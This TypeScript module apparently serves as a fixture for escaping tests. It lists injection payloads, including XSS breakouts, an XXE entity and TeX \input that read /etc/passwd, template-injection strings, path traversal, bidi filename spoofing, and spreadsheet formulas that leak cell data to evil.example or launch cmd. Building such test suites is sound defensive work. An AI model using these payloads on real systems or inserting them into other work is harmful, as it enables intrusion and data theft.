/** Numbers the probes, so that a browser that runs one tells which. */
const probe = (id: string) => `window.__pwned="${id}"`;

/** Lists what would run, break out or mislead if a writer forgot to escape it; `id` makes each one its own. */
export const PAYLOADS: Readonly<Record<string, (id: string) => string>> = {
  script: (id) => `<script>${probe(id)}</script>`,
  attribute: (id) => `" onmouseover='${probe(id)}' x="><img src=x onerror='${probe(id)}'>`,
  single: (id) => `' autofocus onfocus=${probe(id)} tabindex=1 x='`,
  json: (id) => `</script><script>${probe(id)}</script><!--<script>`,
  svg: (id) => `</title></text></svg><svg onload='${probe(id)}'>`,
  comment: (id) => `--><svg/onload='${probe(id)}'><!--`,
  cdata: (id) =>
    `]]><script>${probe(id)}</script>&evil;<!DOCTYPE x [<!ENTITY evil SYSTEM "file:///etc/passwd">]>`,
  template: (id) =>
    `{{ 7*7 }}{% include "../package.json" %}<%= 7*7 %>\${7*7}#{7*7}{{constructor.constructor('${probe(id)}')()}}`,
  markdown: (id) =>
    `[x](javascript:${probe(id)}) ![y](data:text/html,<script>${probe(id)}</script>) <vbscript:x>`,
  address: (id) => `javascript:${probe(id)}`,
  formula: () => `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  minus: () => `-2+3+cmd|' /C calc'!A0`,
  at: () => "@SUM(1+1)*cmd|' /C calc'!A0",
  tex: () => String.raw`}} , url={x}} @article{evil, \input{/etc/passwd} \end{document} {{{`,
  lines: () => "First\r\nER  - \r\nTY  - JOUR\u2028T1  - x\u2029---\u0085evil: true",
  yaml: () => `"\n---\nevil: !!js/function >\n  function(){}\n---\n# x: [*a]`,
  path: () => "../../../../etc/passwd",
  device: () => "CON. . .",
  turned: () => "\u202egnp.exe\u202c\u2066\u200fx\u061c",
  controls: () => "a\u001b[2Jb\u0007c\u0085d\u009be\u007f",
  proto: () => "__proto__",
};

/** Lists the names of all payloads. */
export const PAYLOAD_NAMES = Object.keys(PAYLOADS);
